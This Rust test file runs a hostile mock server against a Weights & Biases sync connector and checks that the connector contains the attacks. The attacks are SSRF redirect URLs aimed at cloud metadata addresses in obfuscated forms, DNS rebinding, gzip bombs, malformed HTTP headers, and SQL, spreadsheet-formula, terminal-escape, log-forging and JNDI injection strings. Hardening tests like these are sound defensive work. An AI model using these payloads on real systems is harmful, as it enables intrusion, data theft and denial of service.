//! A server that means harm, against the built component in the host: it leads to other origins, sends pages without end, bombs,
//! and data that is made to look like commands. No address but its own is ever dialled, memory stays bounded, the runs that it
//! leaves alone are stored, and what it sends as data is stored as data.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use std::fs;
use std::net::{IpAddr, SocketAddr};
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use elt_host::test_support::network::Boxed;
use elt_host::test_support::network::Dial;
use elt_host::test_support::network::HttpOptions;
use elt_host::test_support::network::Resolve;
use elt_host::{Error, HttpClient, Outcome};
use flate2::{Compression, write::GzEncoder};
use futures_util::future::join_all;
use hyper_util::client::proxy::matcher::Matcher as Proxies;
use tokio::net::TcpStream;
use wandb_connector_tests::local_wandb::{
    Dialect, Fault, LocalWandb, Matcher, Mutation, Options, ParquetOptions, Project, Run, When, World,
};
use wandb_connector_tests::product::{Workspace, assert_stored, binary, target_dir};
use wandb_connector_tests::wire::{Exchange, Framing, Step, Wire};

const BOTH: [Dialect; 2] = [Dialect::Rest, Dialect::Graphql];

fn row(step: i64) -> String {
    format!(r#"{{"_step":{step},"_timestamp":{},"loss":{step}.5}}"#, 1_750_000_000 + step)
}

fn serve_runs(runs: impl IntoIterator<Item = Run>) -> LocalWandb {
    let mut world = World::default();
    *world.project_mut("acme", "demo") = Project::new(runs);
    // What is changed on the way must not be compressed.
    LocalWandb::start_blocking(Options { gzip: false, ..Options::with_world(world) }).unwrap()
}

fn serve() -> LocalWandb {
    serve_runs((0..4).map(|n| Run::new(format!("run{n}")).with_history((0..10).map(row))))
}

fn workspace(server: &LocalWandb, dialect: Dialect) -> Workspace {
    Workspace::new(server, dialect, "acme", "demo")
}

#[track_caller]
fn assert_upstream(outcome: &Outcome, what: &str) {
    assert!(matches!(outcome.error, Some(Error::Upstream { .. })), "{what}: {:?}", outcome.error);
}

/// One run was left out, the others were stored; what is in the database is true of them.
#[track_caller]
fn assert_left_out(outcome: &Outcome, id: &str, others: u64, what: &str) {
    assert!(outcome.error.is_none(), "{what}: {:?}", outcome.error);
    let ids: Vec<&str> = outcome.quarantined.iter().map(|(id, _)| id.as_str()).collect();
    assert_eq!((ids.as_slice(), outcome.items.synced), ([id].as_slice(), others), "{what}");
}

/// A network of the test: names have the addresses it says, every dialled address is remembered, and only `real` is connected.
struct Network {
    real: SocketAddr,
    asked: Mutex<Vec<String>>,
    dialled: Mutex<Vec<SocketAddr>>,
}

impl Network {
    fn new(real: SocketAddr) -> Arc<Self> {
        Arc::new(Self { real, asked: Mutex::default(), dialled: Mutex::default() })
    }

    fn client(self: &Arc<Self>) -> HttpClient {
        let proxy = Arc::new(Proxies::builder().build());
        HttpClient::new(HttpOptions { resolve: self.clone(), dial: self.clone(), proxy, ..HttpOptions::default() })
    }

    #[track_caller]
    fn assert_only_the_server_was_dialled(&self, what: &str) {
        let dialled = self.dialled.lock().unwrap();
        assert!(!dialled.is_empty() && dialled.iter().all(|address| *address == self.real), "{what}: {dialled:?}");
    }

    #[track_caller]
    fn assert_only_the_server_was_looked_up(&self, what: &str) {
        let asked = self.asked.lock().unwrap();
        assert!(!asked.is_empty() && asked.iter().all(|name| name == "wandb.test"), "{what}: {asked:?}");
    }
}

impl Resolve for Network {
    fn resolve<'a>(&'a self, host: &'a str) -> Boxed<'a, std::io::Result<Vec<IpAddr>>> {
        let earlier = self.asked.lock().unwrap().iter().filter(|name| *name == host).count();
        self.asked.lock().unwrap().push(host.to_owned());
        let addresses: &[&str] = match host {
            "wandb.test" => &["127.0.0.1"],
            // The first answer is harmless, all later ones are not.
            "rebind.test" if earlier == 0 => &["127.0.0.1"],
            "mapped.test" => &["::ffff:169.254.169.254"],
            "nat64.test" => &["64:ff9b::a9fe:a9fe"],
            "private.test" => &["10.0.0.1"],
            "loopback.test" => &["127.0.0.2", "::1"],
            // Other names, and other spellings of the address, lead to the metadata service.
            _ => &["169.254.169.254"],
        };
        Box::pin(async move { Ok(addresses.iter().map(|address| address.parse().unwrap()).collect()) })
    }
}

impl Dial for Network {
    fn dial(&self, address: SocketAddr) -> Boxed<'_, std::io::Result<TcpStream>> {
        self.dialled.lock().unwrap().push(address);
        Box::pin(async move {
            match address == self.real {
                true => TcpStream::connect(address).await,
                false => Err(std::io::ErrorKind::ConnectionRefused.into()),
            }
        })
    }
}

/// Every way to say "another address" that was thought of; `SELF` is the server's own authority.
const ASTRAY: [&str; 26] = [
    "http://evil.test/x",
    "http://SELF.evil.test/x",
    "http://SELF@evil.test/x",
    "http://evil.test#@SELF/x",
    "http://evil.test\\@SELF/x",
    "https://SELF/x",
    "//evil.test/x",
    "///evil.test/x",
    "\\\\evil.test\\x",
    "http:evil.test/x",
    "file:///etc/passwd",
    "gopher://SELF/x",
    "http://127.0.0.2:1/x",
    "http://127.1:1/x",
    "http://localhost:1/x",
    "http://[::1]:1/x",
    "http://[::ffff:127.0.0.1]:1/x",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://rebind.test/x",
    "http://wandb.test:1/x",
];

/// A server behind a name, and the network that it is found in.
fn named(server: &LocalWandb, wire: &Wire, dialect: Dialect) -> (Workspace, Arc<Network>) {
    let network = Network::new(wire.address());
    let url = format!("http://wandb.test:{}", wire.address().port());
    let mut workspace = workspace(server, dialect).with("base_url", url);
    workspace.client = network.client();
    workspace.policy.networks = vec!["127.0.0.1/32".parse().unwrap()];
    (workspace, network)
}

fn astray(wire: &Wire) -> Vec<String> {
    let own = format!("wandb.test:{}", wire.address().port());
    ASTRAY.iter().map(|target| target.replace("SELF", &own)).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_next_page_elsewhere_is_never_asked_for() {
    let server = serve();
    let wire = Wire::to(&server).unwrap();
    for target in astray(&wire) {
        let next = format!(",\"nextUrl\":{}}}", serde_json::to_string(&target).unwrap());
        let with_next = move |exchange: &Exchange| {
            let body = String::from_utf8_lossy(&exchange.body).into_owned();
            exchange.with_body(format!("{}{next}", body.strip_suffix('}').unwrap())).whole()
        };
        let of_history = with_next.clone();
        wire.play(move |exchange| match exchange.request.contains("/projects/") {
            true => with_next(exchange),
            false => exchange.whole(),
        });
        let (mut workspace, network) = named(&server, &wire, Dialect::Rest);
        assert_upstream(&workspace.sync().await, &target);
        network.assert_only_the_server_was_dialled(&target);

        wire.play(move |exchange| match exchange.request.contains("/run2/history") {
            true => of_history(exchange),
            false => exchange.whole(),
        });
        assert_left_out(&workspace.sync().await, "run2", 3, &target);
        network.assert_only_the_server_was_dialled(&target);
        network.assert_only_the_server_was_looked_up(&target);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_elsewhere_is_never_followed() {
    let server = serve();
    let wire = Wire::to(&server).unwrap();
    for (dialect, target) in astray(&wire).into_iter().flat_map(|target| BOTH.map(|dialect| (dialect, target.clone())))
    {
        let redirect = format!("HTTP/1.1 307 Go\r\nlocation: {target}\r\ncontent-length: 0\r\n\r\n");
        wire.play(move |_| vec![Step::Send(redirect.clone().into())]);
        let (mut workspace, network) = named(&server, &wire, dialect);
        let outcome = workspace.sync().await;
        assert_upstream(&outcome, &target);
        assert_eq!(outcome.requests, 1, "{target}");
        network.assert_only_the_server_was_dialled(&target);
        network.assert_only_the_server_was_looked_up(&target);
    }
}

/// A server with one run that is read from an exported file, where the wire leads that to `target`.
fn exporting() -> (LocalWandb, Wire) {
    let small = |step: i64| format!(r#"{{"_step":{step},"loss":{step}}}"#);
    let run = Run::new("long").with_history((0..5_200).map(small));
    let mut world = World::default();
    *world.project_mut("acme", "demo") = Project::new([run]);
    let parquet = ParquetOptions { rows_per_file: 10_000, ..ParquetOptions::default() };
    let server = LocalWandb::start_blocking(Options { gzip: false, parquet, ..Options::with_world(world) }).unwrap();
    let wire = Wire::to(&server).unwrap();
    (server, wire)
}

fn lead_exports_to(wire: &Wire, target: &str) {
    let own = format!("http://wandb.test:{}/", wire.address().port());
    let target = serde_json::to_string(target).unwrap().trim_matches('"').to_owned();
    wire.play(move |exchange| exchange.replaced(&format!("{own}_storage/"), &format!("{target}/_storage/")).whole());
}

#[tokio::test(flavor = "multi_thread")]
async fn an_exported_file_elsewhere_is_not_asked_for_and_the_history_is_read_by_steps() {
    let (server, wire) = exporting();
    for target in astray(&wire) {
        lead_exports_to(&wire, target.trim_end_matches('/'));
        let (mut workspace, network) = named(&server, &wire, Dialect::Graphql);
        let outcome = workspace.sync().await;
        assert!(outcome.error.is_none() && outcome.quarantined.is_empty(), "{target}: {:?}", outcome.error);
        assert_stored(&workspace, &server, &target);
        network.assert_only_the_server_was_dialled(&target);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_the_policy_allows_is_not_dialled_at_an_address_that_it_does_not() {
    let (server, wire) = exporting();
    // Whoever wrote this policy allowed far too much by name.
    let names = ["evil.test", "mapped.test", "nat64.test", "private.test", "loopback.test", "2852039166", "0xa9fea9fe"];
    for name in names {
        lead_exports_to(&wire, &format!("http://{name}"));
        let (mut workspace, network) = named(&server, &wire, Dialect::Graphql);
        workspace.policy.download_origins = names.map(|name| format!("http://{name}")).into();
        let outcome = workspace.sync().await;
        assert!(outcome.error.is_none() && outcome.quarantined.is_empty(), "{name}: {:?}", outcome.error);
        assert!(network.asked.lock().unwrap().iter().any(|asked| asked == name), "{name} was looked up");
        assert_stored(&workspace, &server, name);
        network.assert_only_the_server_was_dialled(name);
        assert!(workspace.recorder.log().iter().any(|(_, line)| line.contains("--allow-network")), "{name}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_changes_its_address_after_it_was_checked_gains_nothing() {
    let (server, wire) = exporting();
    let port = wire.address().port();
    lead_exports_to(&wire, &format!("http://rebind.test:{port}"));
    // Each answer to a download ends its connection, so that the next one has to be dialled, and the name looked up again.
    let own = format!("http://wandb.test:{port}/");
    wire.play(move |exchange| {
        let exchange = exchange.replaced(&format!("{own}_storage/"), &format!("http://rebind.test:{port}/_storage/"));
        match exchange.request.contains("GET /_storage") {
            true => vec![Step::Send(exchange.bytes(Framing::Length).slice(..40)), Step::End],
            false => exchange.whole(),
        }
    });
    let (mut workspace, network) = named(&server, &wire, Dialect::Graphql);
    workspace.policy.download_origins = vec![format!("http://rebind.test:{port}")];
    let outcome = workspace.sync().await;
    assert!(outcome.error.is_none() && outcome.quarantined.is_empty(), "{:?}", outcome.error);
    let asked = network.asked.lock().unwrap().iter().filter(|name| *name == "rebind.test").count();
    assert!(asked >= 2, "looked up {asked} times");
    network.assert_only_the_server_was_dialled("rebind.test");
    assert_stored(&workspace, &server, "rebind.test");
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_without_end_and_in_a_circle_end_as_an_error() {
    // How many pages it takes to see through each.
    let faults = || [(Fault::Cycle, 3), (Fault::EndlessEmptyPages, 10), (Fault::EndlessPages, 11)];
    // Empty pages of a listing are legal, unless the cursor stands still.
    let of_listings = |dialect| match dialect {
        Dialect::Rest => vec![(Fault::Cycle, 3), (Fault::EndlessPages, 11)],
        Dialect::Graphql => vec![(Fault::Cycle, 3), (Fault::EndlessEmptyPages, 3), (Fault::EndlessPages, 3)],
    };
    // There is an end after all: who goes on to it takes the pages for whole.
    let long = When::First(200);
    let listings = BOTH.into_iter();
    let listings =
        listings.flat_map(|dialect| of_listings(dialect).into_iter().map(move |(fault, most)| (dialect, fault, most)));
    let listings = listings.map(|(dialect, fault, most)| {
        let long = long.clone();
        async move {
            let server = serve();
            server.fault(Matcher::listing().when(long), fault.clone());
            let outcome = workspace(&server, dialect).sync().await;
            assert_upstream(&outcome, &fault.to_string());
            assert_eq!(server.log().listing_requests().len(), most, "{dialect:?} {fault}: {:?}", outcome.error);
        }
    });
    let histories = faults().map(|(fault, most)| {
        let long = long.clone();
        async move {
            let server = serve();
            server.fault(Matcher::history().run("run2").when(long), fault.clone());
            let mut workspace = workspace(&server, Dialect::Rest);
            assert_left_out(&workspace.sync().await, "run2", 3, &fault.to_string());
            let pages = server.log().matching(|request| request.run_id.as_deref() == Some("run2")).len();
            assert!(pages <= most, "{fault}: {pages} pages");
            server.clear_faults();
            assert!(workspace.sync().await.error.is_none());
            assert_stored(&workspace, &server, "healed");
        }
    });
    tokio::join!(join_all(listings), join_all(histories));
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn bombs_and_giants_cost_one_run_and_no_memory() {
    let spaces = gzip(&vec![b' '; 16 << 20]);
    // 16 GiB of spaces in a thousand members.
    let members = spaces.repeat(1024);
    let one = gzip(&vec![b' '; 300 << 20]);
    // The last four bytes say how much there is: 4 GiB less one, and nothing.
    let claiming = |size: u32| [&one[..one.len() - 4], &size.to_le_bytes()].concat();
    let encoded = |body: Vec<u8>| {
        move |exchange: &Exchange| exchange.with_header("content-encoding: gzip").with_body(body.clone()).whole()
    };
    type Attack = Box<dyn Fn(&Exchange) -> Vec<Step> + Send + Sync>;
    let head = |head: &'static str| -> Attack { Box::new(move |_| vec![Step::Send(head.into()), Step::End]) };
    let body = |body: String| -> Attack { Box::new(move |exchange| exchange.with_body(body.clone()).whole()) };
    let attacks: Vec<(&str, Attack)> = vec![
        ("a gzip bomb", Box::new(encoded(one.clone()))),
        ("a gzip bomb of many members", Box::new(encoded(members))),
        ("a gzip bomb that claims to be large", Box::new(encoded(claiming(u32::MAX)))),
        ("a gzip bomb that claims to be empty", Box::new(encoded(claiming(0)))),
        (
            "gzip in gzip",
            Box::new(move |exchange| {
                exchange.with_header("content-encoding: gzip, gzip").with_body(gzip(&gzip(b"{}"))).whole()
            }),
        ),
        ("an exabyte of content-length", head("HTTP/1.1 200 OK\r\ncontent-length: 1152921504606846976\r\n\r\n{")),
        (
            "a content-length beyond numbers",
            head("HTTP/1.1 200 OK\r\ncontent-length: 99999999999999999999999\r\n\r\n{"),
        ),
        ("a negative content-length", head("HTTP/1.1 200 OK\r\ncontent-length: -1\r\n\r\n{")),
        ("two content-lengths", head("HTTP/1.1 200 OK\r\ncontent-length: 1\r\ncontent-length: 2\r\n\r\n{}")),
        ("a chunk of an exabyte", head("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\nfffffffffffffff\r\n{")),
        ("a body of 200 MiB", body(" ".repeat(200 << 20))),
        ("lists in lists", body(format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)))),
        ("objects in objects", body(format!("{}1{}", r#"{"a":"#.repeat(100_000), "}".repeat(100_000)))),
        ("lists that never end", body("[".repeat(20 << 20))),
        ("a string that never ends", body(format!("{{\"history\":[{{\"_step\":0,\"a\":\"{}", "x".repeat(20 << 20)))),
        ("a number that never ends", body(format!("{{\"history\":[{{\"_step\":0,\"a\":1{}", "0".repeat(20 << 20)))),
        ("a step beyond numbers", body(r#"{"history":[{"_step":1e999999999,"a":1},{"_step":"x","a":2}]"#.to_owned())),
    ];
    let checks = attacks.into_iter().map(|(name, attack)| async move {
        let server = serve();
        let wire = Wire::to(&server).unwrap();
        wire.play(move |exchange| match exchange.request.contains("/run2/history") {
            true => attack(exchange),
            false => exchange.whole(),
        });
        let mut workspace = workspace(&server, Dialect::Rest).with("base_url", wire.base_url());
        // Below the default, which is the host's last word on the guest's memory: room for one answer of the size that the connector
        // takes, and no more.
        workspace.policy.limits.memory = 320 << 20;
        assert_left_out(&workspace.sync().await, "run2", 3, name);
        wire.play(Exchange::whole);
        assert!(workspace.sync().await.quarantined.is_empty(), "{name}: healed");
        assert_stored(&workspace, &server, name);
    });
    join_all(checks).await;
}

/// What all responses hold together is bounded, not only each of them: sixteen that are as large as one may be would be a gigabyte.
#[tokio::test(flavor = "multi_thread")]
async fn many_bombs_at_once_take_the_memory_of_one() {
    // Valid to the end, so that it is read to where it is too large; and the small ones before them teach the connector to ask for many.
    let bomb = gzip(format!("{{\"history\":[],\"a\":\"{}\"}}", "x".repeat(80 << 20)).as_bytes());
    let names = (0..30).map(|n| if n < 14 { format!("small{n}") } else { format!("bomb{n}") });
    let server = serve_runs(names.map(|name| Run::new(name).with_history((0..10).map(row))));
    let wire = Wire::to(&server).unwrap();
    wire.play(move |exchange| match exchange.request.contains("/bomb") {
        true => exchange.with_header("content-encoding: gzip").with_body(bomb.clone()).whole(),
        false => exchange.whole(),
    });
    let mut workspace = workspace(&server, Dialect::Rest).with("base_url", wire.base_url());
    let outcome = workspace.sync().await;
    assert_eq!((outcome.items.synced, outcome.quarantined.len()), (14, 16), "{:?}", outcome.error);
    assert!(outcome.memory < 192 << 20, "{} bytes", outcome.memory);
    wire.play(Exchange::whole);
    assert!(workspace.sync().await.quarantined.is_empty(), "healed");
    assert_stored(&workspace, &server, "bombs");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_hosts_own_limit_of_a_response_holds_for_what_was_compressed_too() {
    let server = serve();
    let wire = Wire::to(&server).unwrap();
    let bomb = gzip(&vec![b' '; 2 << 20]);
    wire.play(move |exchange| match exchange.request.contains("/run2/history") {
        true => exchange.with_header("content-encoding: gzip").with_body(bomb.clone()).whole(),
        false => exchange.whole(),
    });
    let mut workspace = workspace(&server, Dialect::Rest).with("base_url", wire.base_url());
    workspace.policy.limits.response_bytes = 1 << 20;
    assert_left_out(&workspace.sync().await, "run2", 3, "response_bytes");
    let log = workspace.recorder.log();
    assert!(log.iter().any(|(_, line)| line.contains("`response_bytes` (1048576)")), "{log:?}");
}

/// Names and values that something on their way might take for more than data.
fn tricks() -> Vec<String> {
    let mut tricks: Vec<String> = [
        "'; DROP TABLE runs; --",
        "\"; DELETE FROM metrics; --",
        "Robert'); DROP TABLE metric_objects;--",
        "metrics",
        "sqlite_master",
        "_synced_at",
        "run_id",
        "rowid",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-1",
        "-2+3",
        "\t=1+1",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "\u{9b}31mred",
        "\u{202e}gpj.exe",
        "line\r\nINFO: all is well",
        "nul\u{0}byte",
        "%s%n%p {} {0} ${jndi:ldap://evil.test/x} $(id) `id`",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "\u{feff}bom",
        "a\u{301}á",
        "",
        " ",
        "__proto__",
        "\u{10ffff}",
    ]
    .map(str::to_owned)
    .into();
    tricks.push("k".repeat(1 << 20));
    tricks
}

fn tricky() -> LocalWandb {
    let quoted = |text: &str| serde_json::to_string(text).unwrap();
    let numbers = [
        "1e400".to_owned(),
        "-1e-400".to_owned(),
        "9".repeat(100_000),
        format!("0.{}1", "0".repeat(100_000)),
        "1E+0000000000000000000000000000000000000001".to_owned(),
    ];
    let mut lines: Vec<String> = tricks()
        .iter()
        .enumerate()
        .map(|(step, trick)| {
            let trick = quoted(trick);
            format!(r#"{{"_step":{step},{trick}:{step}.25,"value":{trick},"nested":{{{trick}:{{{trick}:{step}}}}}}}"#)
        })
        .collect();
    let first = lines.len();
    lines.extend(numbers.iter().enumerate().map(|(n, number)| format!(r#"{{"_step":{},"n":{number}}}"#, first + n)));
    let deep = first + numbers.len();
    lines.push(format!(r#"{{"_step":{deep},"deep":{}{}}}"#, "[".repeat(500), "]".repeat(500)));
    let mut runs: Vec<Run> = vec![Run::new("tricks").with_history(lines)];
    runs.extend(tricks().iter().enumerate().map(|(n, trick)| {
        let mut run = Run::new(format!(
            "run {n} {}",
            trick.chars().filter(|c| !matches!(c, '\0'..='\x1f')).take(40).collect::<String>()
        ));
        run.display_name = Some(trick.clone());
        run.tags = Some(vec![trick.clone()]);
        run.config = Some(format!("{{{}:{{\"value\":{}}}}}", quoted(trick), quoted(trick)));
        run.summary = Some(format!("{{{}:{}}}", quoted(trick), quoted(trick)));
        run.with_history([format!(r#"{{"_step":0,{}:1}}"#, quoted(trick))])
    }));
    serve_runs(runs)
}

/// The runs whose names a terminal would act on can't be read, for a reason that it would act on too.
fn leave_out_the_worst(server: &LocalWandb) {
    let runs = server.world().project("acme", "demo").unwrap().runs.clone();
    let worst: Vec<_> = runs.iter().filter(|run| run.id.contains(['\u{9b}', '\u{202e}'])).collect();
    assert_eq!(worst.len(), 2);
    for run in worst {
        let error = r#"{"errors":[{"message":"\u001b[2Jowned\r\nINFO: all is well\u202e"}]}"#;
        server.fault(Matcher::any().run(&run.id), Fault::Status(400, Vec::new(), error.to_owned()));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn data_that_looks_like_commands_is_stored_as_data() {
    let server = tricky();
    for dialect in BOTH {
        let mut workspace = workspace(&server, dialect);
        leave_out_the_worst(&server);
        assert_eq!(workspace.sync().await.quarantined.len(), 2, "{dialect:?}");
        let log = workspace.recorder.log();
        assert!(log.iter().any(|(_, line)| line.contains("gpj.exe")), "what was left out is named: {log:?}");
        for (_, line) in log {
            assert!(!line.contains(|c: char| c.is_control() || c == '\u{202e}'), "{line:?}");
        }
        server.clear_faults();
        let outcome = workspace.sync().await;
        assert!(outcome.error.is_none(), "{dialect:?}: {:?}", outcome.error);
        assert_eq!(outcome.quarantined, [], "{dialect:?}");
        assert_stored(&workspace, &server, "tricks");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn text_that_is_not_unicode_is_not_stored_as_something_else() {
    // Bytes that are no UTF-8 have no place in a text, and are replaced one by one. The lone half of a pair is replaced as a whole, encoded
    // or spelled.
    let cases: [(&[u8], &str); 5] = [
        (b"\xff\xfe", "\u{fffd}\u{fffd}"),
        (b"\xc0\x80", "\u{fffd}\u{fffd}"),
        (b"\xed\xa0\x80", "\u{fffd}"),
        (br"\ud800", r"\ufffd"),
        (br"\udc00\ud800", r"\ufffd\ufffd"),
    ];
    for (sent, stored) in cases {
        let server = serve();
        let wire = Wire::to(&server).unwrap();
        wire.play(move |exchange| {
            if !exchange.request.contains("/run2/history") {
                return exchange.whole();
            }
            let body = [br#"{"history":[{"_step":0,"note":"a"#.as_slice(), sent, br#"b","loss":1}]}"#].concat();
            exchange.with_body(body).whole()
        });
        let mut workspace = workspace(&server, Dialect::Rest).with("base_url", wire.base_url());
        let outcome = workspace.sync().await;
        assert!(outcome.error.is_none(), "{:?}", outcome.error);
        assert_eq!(outcome.quarantined, []);
        let database = rusqlite::Connection::open(workspace.database()).unwrap();
        let texts: Vec<String> = database
            .prepare("SELECT value_json FROM metric_objects WHERE run_id = 'run2'")
            .unwrap()
            .query_map([], |row| row.get(0))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(texts, [format!("\"a{stored}b\"")], "{sent:?}");
        drop(database);
        wire.play(Exchange::whole);
        server
            .mutate(&Mutation::Append {
                entity: "acme".into(),
                project: "demo".into(),
                run: "run2".into(),
                rows: vec![row(10)],
            })
            .unwrap();
        workspace.sync().await;
        assert_stored(&workspace, &server, "healed");
    }
}

/// What a person sees of it: nothing that a terminal acts on.
#[test]
fn what_is_shown_of_hostile_names_is_escaped() {
    let server = tricky();
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("configuration.json");
    let config = serde_json::json!({"api_key": server.api_key(), "entity": "acme", "project": "demo",
        "base_url": server.base_url(), "api": "graphql"});
    fs::write(&file, config.to_string()).unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
    let run = |arguments: &[&str]| {
        let output = Command::new(binary())
            .args(arguments)
            .current_dir(folder.path())
            .env_clear()
            .env("HOME", folder.path())
            .env("XDG_CACHE_HOME", target_dir().join("component-cache"))
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let all = [output.stdout, output.stderr].concat();
        let text = String::from_utf8(all).unwrap();
        let acts = |c: char| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c);
        assert!(!text.contains(acts), "{arguments:?}: {:?}", text.chars().find(|c| acts(*c)));
        assert!(!text.lines().any(|line| line == "INFO: all is well"), "{arguments:?}: a line was forged");
        text
    };
    for format in ["text", "json"] {
        leave_out_the_worst(&server);
        let shown = run(&[
            "sync",
            "--config",
            "configuration.json",
            "--log-level",
            "debug",
            "--log-format",
            format,
            "--format",
            format,
        ]);
        assert!(shown.contains("gpj.exe") && shown.contains("[2Jowned"), "what was left out is said, and why: {shown}");
        server.clear_faults();
        let shown = run(&["preview", "--config", "configuration.json", "--format", format, "--rows", "50"]);
        assert!(shown.contains("gpj.exe") && shown.contains("DROP TABLE"), "{shown}");
        let _ = fs::remove_file(folder.path().join("warehouse.db"));
    }
}
